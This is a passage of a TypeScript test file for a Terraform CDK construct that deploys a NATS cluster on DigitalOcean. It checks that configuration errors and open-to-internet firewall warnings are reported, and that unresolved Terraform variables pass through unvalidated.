      expect.stringMatching(/^- nats: \[NATS-001\] .* lets ::0\/0 \(the whole internet\) reach tcp 8222 \(the monitor port\)/),
      expect.stringMatching(/^- nats: \[NATS-001\] .* lets ::0\/0 \(the whole internet\) reach tcp 22 \(the ssh port\)/),
      '- nats-tutorial: NATS_TUTORIAL_CLIENT_PORT "abc" is not an integer',
      expect.stringMatching(/^- nats-tutorial: NATS_TUTORIAL_NODE_COUNT must be an integer from 1 to 25 .*, got 0$/),
      expect.stringMatching(/^- nats-tutorial: NATS_TUTORIAL_REGION "Bangalore" is not valid/),
      "",
    ]);
  });

  test("unresolved tokens are not validated", () => {
    const stack = new TerraformStack(Testing.app(), "test");
    const region = new TerraformVariable(stack, "region", { type: "string" });
    const size = new TerraformVariable(stack, "size", { type: "string" });
    const interval = new TerraformVariable(stack, "interval", { type: "number" });
    const cluster = new NatsCluster(stack, "cluster", {
      region: region.stringValue,
      size: size.stringValue,
      healthCheck: { checkIntervalSeconds: interval.numberValue },
    });
    const json = JSON.parse(Testing.synth(stack)) as { resource: Record<string, Record<string, Record<string, unknown>>> };
    const lb = json.resource.digitalocean_loadbalancer[stack.getLogicalId(cluster.loadBalancer)];
    expect(lb.region).toBe("${var.region}");
    expect(lb.healthcheck).toMatchObject({ check_interval_seconds: "${var.interval}" });
    expect(Object.values(json.resource.digitalocean_droplet).map((d) => d.size)).toEqual(["${var.size}", "${var.size}", "${var.size}"]);
  });
});
